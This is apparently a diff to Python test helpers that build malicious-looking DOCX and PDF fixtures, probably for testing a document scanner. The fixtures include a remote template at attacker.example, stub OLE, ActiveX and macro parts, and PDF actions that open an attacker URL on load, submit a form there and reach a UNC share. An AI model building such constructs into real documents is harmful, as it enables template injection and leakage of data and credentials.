@@ -7,7 +7,13 @@ from typing import Any
 
 import docx
 from pypdf import PdfWriter
-from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    TextStringObject,
+)
 
 
 def docx_of(*paragraphs: str) -> bytes:
@@ -131,3 +137,40 @@ def written(writer: PdfWriter) -> bytes:
     file = io.BytesIO()
     writer.write(file)
     return file.getvalue()
+
+
+def with_a_remote_template_and_programs(document: bytes) -> bytes:
+    """A DOCX file that loads its template from elsewhere, and has OLE, ActiveX and a program embedded."""
+    relationships = "http://schemas.openxmlformats.org/package/2006/relationships"
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    template = (
+        f'<Relationships xmlns="{relationships}"><Relationship Id="rId1" Type="{office}/attachedTemplate"'
+        ' Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
+    )
+    return repacked(
+        document,
+        word___rels__settings_dot_xml_dot_rels=template.encode(),
+        word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0 a program",
+        word__embeddings__Microsoft_Word_Document_dot_docm=zip_of("word/vbaProject.bin"),
+        word__activeX__activeX1_dot_xml=b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
+        word__activeX__activeX1_dot_bin=b"a control",
+    )
+
+
+def pdf_with_actions(*pages: str) -> bytes:
+    """A PDF file that opens an address when it is opened, sends a form, and goes to another file."""
+    writer = pdf_writer(*pages)
+
+    def action(kind: str, key: str, value: str) -> DictionaryObject:
+        return DictionaryObject(
+            {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
+        )
+
+    writer._root_object[NameObject("/OpenAction")] = action("/URI", "/URI", "https://attacker.example/")
+    links = [
+        action("/SubmitForm", "/F", "https://attacker.example/form"),
+        action("/GoToR", "/F", "\\\\attacker.example\\share"),
+    ]
+    annotations = [DictionaryObject({NameObject("/A"): link}) for link in links]
+    writer.pages[0][NameObject("/Annots")] = ArrayObject(annotations)
+    return written(writer)
